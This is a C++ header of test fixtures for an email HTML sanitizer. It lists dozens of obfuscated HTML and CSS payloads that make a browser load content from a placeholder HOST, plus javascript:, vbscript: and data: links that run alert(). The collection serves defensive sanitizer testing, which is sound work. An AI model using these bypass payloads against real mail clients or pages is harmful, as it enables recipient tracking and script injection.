// Mail HTML written to fetch something from elsewhere or to run script, each in a way that got
// past a sanitizer somewhere. "HOST" stands for the address a test points them at.
#pragma once

#include <string>

namespace hostile {

// Each of these makes a browser ask HOST for something when the page opens, unless sanitized.
inline const char* const kRemoteLoads[] = {
    "<img src=\"http://HOST/img\">",
    "<img src=\"&#x68;ttp://HOST/img-entity\">",
    "<img src=\"&#104&#116&#116&#112://HOST/img-entity-no-semicolon\">",
    "<img src=\"  http://HOST/img-blank\">",
    "<img src=\"//HOST/img-scheme-relative\">",
    "<img srcset=\"http://HOST/srcset 1x\">",
    "<img lowsrc=\"http://HOST/lowsrc\" dynsrc=\"http://HOST/dynsrc\">",
    "<image src=\"http://HOST/image-element\">",
    "<picture><source srcset=\"http://HOST/picture-source\"><img alt=p></picture>",
    "<table background=\"http://HOST/table-background\"><tr><td background=\"http://HOST/td-background\">t</td></tr></table>",
    "<body background=\"http://HOST/body-background\">b",
    "<div style=\"background:url(http://HOST/style-url)\">d</div>",
    "<div style=\"background:u\\72l(http://HOST/style-escape)\">d</div>",
    "<div style=\"background-image:&#x75;rl(http://HOST/style-entity)\">d</div>",
    "<p style=\"background:url(&quot;http://HOST/style-quoted&quot;)\">p</p>",
    "<div style=\"--x:url(http://HOST/custom-property);background:var(--x)\">d</div>",
    "<div style=\"list-style:url(http://HOST/list-style)\"><li>l</li></div>",
    "<div style=\"behavior:url(http://HOST/behavior)\">d</div>",
    "<style>@import url(http://HOST/import);</style>",
    "<style>@imp\\ort \"http://HOST/import-escape\";</style>",
    "<style>@\\69mport 'http://HOST/import-hex';</style>",
    "<style>@font-face{font-family:x;src:url(http://HOST/font-face)} p{font-family:x}</style><p>t</p>",
    "<style>p{background:image-set(\"http://HOST/image-set\" 1x)}</style><p>t</p>",
    "<style>p{background:-webkit-image-set(\"http://HOST/webkit-image-set\" 1x)}</style><p>t</p>",
    "<style>p{background:/**/url(http://HOST/comment)}</style><p>t</p>",
    "<style>p{background:\\75\\72\\6c(http://HOST/hex-url)}</style><p>t</p>",
    "<STYLE>P{BACKGROUND:URL(http://HOST/upper-case)}</STYLE><P>t</P>",
    "<style>p{background:url(//HOST/scheme-relative)}</style><p>t</p>",
    "<style>@media screen{p{background:url(http://HOST/media)}}</style><p>t</p>",
    "<style>p{cursor:url(http://HOST/cursor),auto}</style><p>t</p>",
    "<style>p{background:url(http://HOST/unclosed)",
    "<link rel=\"stylesheet\" href=\"http://HOST/link-stylesheet\">",
    "<link rel=\"prefetch\" href=\"http://HOST/link-prefetch\"><link rel=\"icon\" href=\"http://HOST/link-icon\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://HOST/meta-refresh\">",
    "<base href=\"http://HOST/base/\"><img src=\"relative.png\">",
    "<iframe src=\"http://HOST/iframe\"></iframe>",
    "<object data=\"http://HOST/object\"></object><embed src=\"http://HOST/embed\">",
    "<svg><image xlink:href=\"http://HOST/svg-image\"/></svg>",
    "<svg><use href=\"http://HOST/svg-use#x\"/></svg>",
    "<video poster=\"http://HOST/video-poster\"><source src=\"http://HOST/video-source\"></video>",
    "<audio src=\"http://HOST/audio\" autoplay></audio>",
    "<input type=\"image\" src=\"http://HOST/input-image\">",
    "<script src=\"http://HOST/script\"></script>",
    "<img src=x onerror=\"this.src='http://HOST/onerror'\">",
    "<noscript><img src=\"http://HOST/noscript\"></noscript>",
    "<bgsound src=\"http://HOST/bgsound\">",
};

// Links that would run script when followed.
inline const char* const kScriptLinks[] = {
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(2)\">b</a>",
    "<a href=\"jav&#x09;ascript:alert(3)\">c</a>",
    "<a href=\"&#106avascript:alert(4)\">d</a>",
    "<a href=\"java&NewLine;script:alert(5)\">e</a>",
    "<a href=\"JaVaScRiPt:alert(6)\">f</a>",
    "<a href=\" javascript:alert(7)\">g</a>",
    "<a href=\"javascript&#0000058alert(8)\">h</a>",
    "<a href=\"vbscript:alert(9)\">i</a>",
    "<a href=\"data:text/html,<script>alert(10)</script>\">j</a>",
    "<a href=\"jav&Tab;ascript:alert(11)\">k</a>",
};

inline std::string WithHost(std::string html, const std::string& host) {
    for (std::size_t at = html.find("HOST"); at != std::string::npos; at = html.find("HOST", at + host.size()))
        html.replace(at, 4, host);
    return html;
}

}  // namespace hostile
